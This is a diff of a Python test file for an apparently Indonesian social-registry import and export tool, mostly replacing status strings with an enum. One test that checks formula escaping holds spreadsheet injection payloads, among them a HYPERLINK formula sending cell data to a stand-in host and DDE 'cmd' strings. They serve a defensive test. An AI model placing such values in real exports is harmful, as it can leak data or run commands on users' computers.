@@ -10,6 +10,7 @@ import pyarrow.parquet as pq
 import pytest
 from sqlalchemy import select, text
 
+from siks.domain.status import ImportStatus
 from siks.registry import loader, sample
 from siks.registry.exporter import export_registry
 from siks.registry.importer import import_file
@@ -25,7 +26,7 @@ def _file(tmp_path, n=60, seed=1, name="dtks.csv", **kw):
 def test_happy_path(engine, tmp_path, counts):
     path = _file(tmp_path, warning_rate=0.1)
     result = import_file(engine, path, "operator1")
-    assert result.status == "imported", result.errors[:3]
+    assert result.status == ImportStatus.DIMUAT, result.errors[:3]
     c = counts(engine)
     assert c["member"] == result.rows == result.inserted == 60
     assert c["household"] == c["assessment"] == result.counts["household"]["inserted"]
@@ -74,19 +75,24 @@ def test_happy_path(engine, tmp_path, counts):
 
 def test_reimport_changes_nothing(engine, tmp_path, counts):
     path = _file(tmp_path)
-    assert import_file(engine, path, "a").status == "imported"
+    assert import_file(engine, path, "a").status == ImportStatus.DIMUAT
     before = counts(engine)
     again = import_file(engine, path, "b")
-    assert (again.status, again.inserted, again.updated) == ("already_imported", 0, 0)
+    assert (again.status, again.inserted, again.updated) == (ImportStatus.SUDAH_DIMUAT, 0, 0)
     forced = import_file(engine, path, "b", force=True)  # content compared record by record
-    assert (forced.status, forced.inserted, forced.updated, forced.unchanged) == ("unchanged", 0, 0, 60)
+    assert (forced.status, forced.inserted, forced.updated, forced.unchanged) == (
+        ImportStatus.TIDAK_BERUBAH,
+        0,
+        0,
+        60,
+    )
     assert counts(engine) == before  # no new audit rows, no new batch
 
 
 def test_changed_content_is_updated_and_audited(engine, tmp_path, counts):
     rows = sample.rows(40, seed=3).to_pylist()
     sample.write_rows(rows, tmp_path / "v1.csv")
-    assert import_file(engine, tmp_path / "v1.csv", "a").status == "imported"
+    assert import_file(engine, tmp_path / "v1.csv", "a").status == ImportStatus.DIMUAT
     before = counts(engine)
 
     changed = [dict(r) for r in rows]
@@ -102,7 +108,7 @@ def test_changed_content_is_updated_and_audited(engine, tmp_path, counts):
             r["alamat"] = "JL BARU 1"  # household field
     sample.write_rows(changed, tmp_path / "v2.csv")
     result = import_file(engine, tmp_path / "v2.csv", "b")
-    assert result.status == "imported", result.errors[:3]
+    assert result.status == ImportStatus.DIMUAT, result.errors[:3]
     assert result.inserted == 0
     n_ruta = sum(r["id_ruta"] == ruta for r in rows)
     assert result.updated == n_ruta and result.unchanged == 40 - n_ruta
@@ -144,18 +150,20 @@ def test_changed_content_is_updated_and_audited(engine, tmp_path, counts):
         assert new_a.action == "buat" and new_a.after["jenis_lantai"] == 8
         assert {e.entity for e in entries} == {"member", "family", "household", "assessment", "import_batch"}
     # importing v2 again: nothing
-    assert import_file(engine, tmp_path / "v2.csv", "c", force=True).status == "unchanged"
+    assert import_file(engine, tmp_path / "v2.csv", "c", force=True).status == ImportStatus.TIDAK_BERUBAH
 
 
 def test_export_reimports_unchanged(engine, tmp_path, counts):
     path = _file(tmp_path, n=120, warning_rate=0.05)
-    assert import_file(engine, path, "a").status == "imported"
+    assert import_file(engine, path, "a").status == ImportStatus.DIMUAT
     before = counts(engine)
     for fmt in ("csv", "xlsx"):
         out = tmp_path / f"export.{fmt}"
         assert export_registry(engine, out, fmt).rows == 120
         again = import_file(engine, out, "b")
-        assert (again.status, again.inserted, again.updated) == ("unchanged", 0, 0), again.errors[:3]
+        assert (again.status, again.inserted, again.updated) == (ImportStatus.TIDAK_BERUBAH, 0, 0), (
+            again.errors[:3]
+        )
     pq_out = export_registry(engine, tmp_path / "export.parquet", "parquet")
     table = pq.read_table(pq_out.path)
     assert table.num_rows == 120 and table.column_names[:3] == ["id_ruta", "kode_desa", "dusun"]
@@ -164,7 +172,7 @@ def test_export_reimports_unchanged(engine, tmp_path, counts):
 
 def test_export_escapes_formulas(engine, tmp_path):
     """A registry value that looks like a formula (entered elsewhere) is never written back live."""
-    assert import_file(engine, _file(tmp_path, n=10), "a").status == "imported"
+    assert import_file(engine, _file(tmp_path, n=10), "a").status == ImportStatus.DIMUAT
     evil = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd|x"]
     with transaction(engine) as s:
         members = s.scalars(select(Member).order_by(Member.id)).all()
@@ -188,7 +196,7 @@ def test_export_escapes_formulas(engine, tmp_path):
 
 def test_desa_filter_and_snapshot(engine, tmp_path):
     path = _file(tmp_path, n=200)
-    assert import_file(engine, path, "a").status == "imported"
+    assert import_file(engine, path, "a").status == ImportStatus.DIMUAT
     rows = sample.rows(200, seed=1).to_pylist()
     desa = rows[0]["kode_desa"]
     out = export_registry(engine, tmp_path / "d.csv", "csv", desa=desa)
@@ -249,7 +257,7 @@ def test_bulk_path_keeps_indexes_and_constraints(engine, tmp_path, monkeypatch):
             return sorted(r[0] for r in conn.execute(text(q)))
 
     before = schema()
-    assert import_file(engine, _file(tmp_path, n=300), "a").status == "imported"
+    assert import_file(engine, _file(tmp_path, n=300), "a").status == ImportStatus.DIMUAT
     assert schema() == before
     with pytest.raises(Exception), transaction(engine) as s:  # noqa: B017 - either backend's integrity error
         s.add(Household(ref=sample.rows(1, seed=1).column("id_ruta")[0].as_py(), desa_code="35.09.15.2001"))
@@ -261,10 +269,10 @@ def test_bulk_path_keeps_indexes_and_constraints(engine, tmp_path, monkeypatch):
 
 
 def test_second_file_adds_to_the_registry(engine, tmp_path, counts):
-    assert import_file(engine, _file(tmp_path, n=50, prefix="A"), "a").status == "imported"
+    assert import_file(engine, _file(tmp_path, n=50, prefix="A"), "a").status == ImportStatus.DIMUAT
     b = sample.write_csv(sample.rows(30, seed=2, prefix="B"), tmp_path / "b.csv")
     result = import_file(engine, b, "a")
-    assert (result.status, result.inserted) == ("imported", 30)
+    assert (result.status, result.inserted) == (ImportStatus.DIMUAT, 30)
     assert counts(engine)["member"] == 80
     with session_factory(engine)() as s:
         ids = s.scalars(select(Member.id).order_by(Member.id)).all()
@@ -293,12 +301,14 @@ def test_answers_are_compact_on_disk_and_dicts_in_python(engine, tmp_path):
 def test_pbdt_round_trip(engine, tmp_path, counts):
     path = _file(tmp_path, n=80, instrument="PBDT2015")
     result = import_file(engine, path, "a", instrument="PBDT2015")
-    assert result.status == "imported", result.errors[:3]
+    assert result.status == ImportStatus.DIMUAT, result.errors[:3]
     before = counts(engine)
     out = export_registry(engine, tmp_path / "pbdt.csv", "csv", instrument="PBDT2015")
     assert out.rows == 80
     again = import_file(engine, out.path, "b", instrument="PBDT2015")
-    assert (again.status, again.inserted, again.updated) == ("unchanged", 0, 0), again.errors[:3]
+    assert (again.status, again.inserted, again.updated) == (ImportStatus.TIDAK_BERUBAH, 0, 0), again.errors[
+        :3
+    ]
     assert counts(engine) == before
     assert export_registry(engine, tmp_path / "regsosek.csv", "csv").rows == 0  # another instrument's view
     with session_factory(engine)() as s:
